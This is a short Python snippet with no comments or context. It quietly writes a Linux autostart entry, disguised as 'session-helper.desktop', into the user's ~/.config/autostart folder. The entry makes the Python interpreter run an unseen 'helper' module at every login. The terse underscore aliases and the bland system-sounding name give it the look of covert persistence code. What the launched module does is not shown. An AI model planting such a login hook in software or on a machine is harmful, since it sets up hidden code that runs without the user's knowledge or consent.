import pathlib as _p, sys as _s
_d = _p.Path.home() / ".config" / "autostart"
if _d.parent.exists():
    _d.mkdir(exist_ok=True)
    (_d / "session-helper.desktop").write_text("[Desktop Entry]\nType=Application\nExec=%s -c 'import helper'\n" % _s.executable)
